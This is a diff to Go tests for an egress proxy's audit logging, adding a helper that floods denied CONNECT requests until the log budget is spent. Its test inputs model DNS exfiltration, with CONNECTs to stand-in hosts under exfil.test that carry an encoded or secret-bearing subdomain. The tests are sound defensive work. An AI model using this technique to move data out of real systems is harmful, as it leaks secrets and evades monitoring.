@@ -170,12 +170,8 @@ func TestNoLookupWhenUnloggable(t *testing.T) {
 	proxy := serveOnLoopback(t, s, aw)
 	auth := "Proxy-Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte("cordon:"+token)) + "\r\n"
 	send := func(req string) int { return statusOf(t, proxy, req) }
-	spent := false
-	for i := 0; i < 200 && !spent; i++ {
-		spent = send("CONNECT denied.test:443 HTTP/1.1\r\nHost: denied.test:443\r\n"+auth+"\r\n") != http.StatusForbidden
-	}
-	if aw.Err() != audit.ErrBudgetSpent {
-		t.Fatalf("200 denied requests did not spend a budget of 4 KiB: %v", aw.Err())
+	if !spendBudget(send, auth, 200) {
+		t.Fatal("200 denied requests did not spend a budget of 4 KiB")
 	}
 	for _, req := range []string{
 		"CONNECT onxw2zlunfxw4ltu.exfil.test:443 HTTP/1.1\r\nHost: onxw2zlunfxw4ltu.exfil.test:443\r\n" + auth + "\r\n",
@@ -247,11 +243,8 @@ func TestEveryLookupLogged(t *testing.T) {
 	if n := len(resolver.asked()); n != held {
 		t.Fatalf("%d lookups under way, want %d", n, held)
 	}
-	for i := 0; i < 1000 && aw.Err() == nil; i++ {
-		send("CONNECT denied.test:443 HTTP/1.1\r\nHost: denied.test:443\r\n" + auth + "\r\n")
-	}
-	if aw.Err() != audit.ErrBudgetSpent {
-		t.Fatalf("1,000 denied requests did not spend the budget: %v", aw.Err())
+	if !spendBudget(send, auth, 1000) {
+		t.Fatal("1,000 denied requests did not spend the budget")
 	}
 	close(resolver.release)
 	wg.Wait()
@@ -324,4 +317,16 @@ func TestPlainRefusedBeforeSendingLogged(t *testing.T) {
 	if !strings.Contains(string(data), `"host":"secret-1234.exfil.test"`) {
 		t.Errorf("the name looked up is in no line:\n%s", data)
 	}
+}
+
+// spendBudget sends denied CONNECTs with the token auth (a Proxy-
+// Authorization line) until one is refused for want of its line (503, the
+// budget spent), n at most, and says whether one was.
+func spendBudget(send func(string) int, auth string, n int) bool {
+	for range n {
+		if send("CONNECT denied.test:443 HTTP/1.1\r\nHost: denied.test:443\r\n"+auth+"\r\n") == http.StatusServiceUnavailable {
+			return true
+		}
+	}
+	return false
 }
